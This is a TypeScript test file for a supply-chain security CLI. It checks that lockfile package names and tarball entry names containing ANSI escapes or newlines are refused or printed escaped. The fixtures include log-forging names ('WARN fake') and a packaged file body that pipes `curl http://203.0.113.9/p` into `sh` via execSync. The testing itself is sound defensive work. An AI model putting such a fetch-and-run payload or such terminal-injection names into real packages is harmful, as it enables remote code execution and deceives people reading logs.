import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { purl } from '../helper/src/deps/model.js';
import { printable } from '../helper/src/io/printable.js';
import { formatGraphText } from '../helper/src/lockfiles/text.js';
import { rawTgz } from './support/archives.js';
import { runCli } from './support/cli.js';
import { tempDir } from './support/tmp.js';

/**
 * Names and paths from inputs reach the text renderers. A raw ESC repaints the job log and a newline forges a
 * line of it (`WARN fake`), so every text renderer prints them escaped, and names npm would not accept are refused.
 */
const ESC = '\x1b';
/** No raw control character but the renderer's own newlines, and no line a name could have forged. */
function clean(out: string): void {
  expect(out).not.toContain(ESC);
  expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  expect(out.split('\n').some((l) => l.startsWith('WARN fake'))).toBe(false);
}

const lockWith = (packages: Record<string, unknown>) =>
  JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { '': { name: 'app', dependencies: { a: '1.0.0' } }, ...packages } });

describe('control characters in names', () => {
  it('sscs deps refuses a lockfile name with a newline and a key with an ANSI escape, and prints the key escaped', async () => {
    const dir = tempDir({ 'lk/package-lock.json': lockWith({ 'node_modules/a': { name: 'a\nWARN fake', version: '1.0.0' } }) });
    const r = await runCli(['deps', 'lk/package-lock.json'], { cwd: dir });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('not a valid npm package name');
    clean(r.stdout + r.stderr);

    writeFileSync(join(dir, 'lk/package-lock.json'), lockWith({ [`node_modules/evil${ESC}[31mRED${ESC}[0m`]: { version: '1.0.0' } }));
    const k = await runCli(['deps', 'lk/package-lock.json'], { cwd: dir });
    expect(k.exitCode).toBe(2);
    expect(k.stderr).toContain('node_modules/evil\\u001b[31mRED');
    clean(k.stdout + k.stderr);
    const p = await runCli(['policy', 'check', 'lk/package-lock.json', '--offline'], { cwd: dir, env: { HOME: dir } });
    expect(p.exitCode).toBe(2);
    clean(p.stdout + p.stderr);
  });

  it('yarn and pnpm lockfiles: a name npm would not accept is refused', async () => {
    const dir = tempDir({
      // yarn's own parser refuses ESC itself; the C1 CSI (U+009B) is the same escape to many terminals.
      'y/yarn.lock': `# yarn lockfile v1\n\n\n"a\u009b2J@1.0.0":\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz"\n`,
      'p/pnpm-lock.yaml': "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      \"a\\e[2J\":\n        specifier: 1.0.0\n        version: 1.0.0\npackages:\n  \"a\\e[2J@1.0.0\":\n    resolution: {integrity: sha512-x}\nsnapshots:\n  \"a\\e[2J@1.0.0\": {}\n",
    });
    for (const f of ['y/yarn.lock', 'p/pnpm-lock.yaml']) {
      const r = await runCli(['deps', f], { cwd: dir });
      expect(r.exitCode, `${f}: ${r.stdout}${r.stderr}`).toBe(2);
      expect(r.stderr).toContain('not a valid npm package name');
      clean(r.stdout + r.stderr);
    }
  });

  it('sscs scan prints an entry named with ANSI escapes and a newline escaped, on one line', async () => {
    const dir = tempDir();
    const name = `package/${ESC}[2J${ESC}[31mevil\nWARN fake.js`;
    writeFileSync(join(dir, 'x.tgz'), rawTgz([
      { path: 'package/package.json', body: JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: `node "evil${ESC}[31m\nWARN fake.js"` } }) },
      { path: name, body: "require('child_process').execSync('curl -s http://203.0.113.9/p | sh');\n" },
    ]));
    const r = await runCli(['scan', 'x.tgz', '--fail-on', 'none'], { cwd: dir });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toContain('\\x1b[2J\\x1b[31mevil\\x0aWARN fake.js');
    clean(r.stdout + r.stderr);
  });

  it('every text renderer escapes what an input may hold; purls are percent-encoded', () => {
    expect(printable(`a\nb${ESC}[0m\u202e\u0085`)).toBe('a\\x0ab\\x1b[0m\\u202e\\x85');
    const text = formatGraphText({ sources: ['x'], packages: [{ ecosystem: 'npm', name: `e${ESC}[31m`, version: '1.0.0\nWARN fake', purl: '', direct: true, dev: false, path: ['root'], sources: ['x'], source: 'registry' } as never] });
    clean(text);
    expect(purl({ ecosystem: 'npm', name: 'a\nWARN fake', version: '1.0.0' })).toBe('pkg:npm/a%0AWARN%20fake@1.0.0');
    expect(purl({ ecosystem: 'npm', name: '@s c/n', version: '1.0.0' })).toBe('pkg:npm/%40s%20c/n@1.0.0');
    expect(purl({ ecosystem: 'npm', name: '@scope/name', version: '1.0.0' })).toBe('pkg:npm/%40scope/name@1.0.0');
  });
});
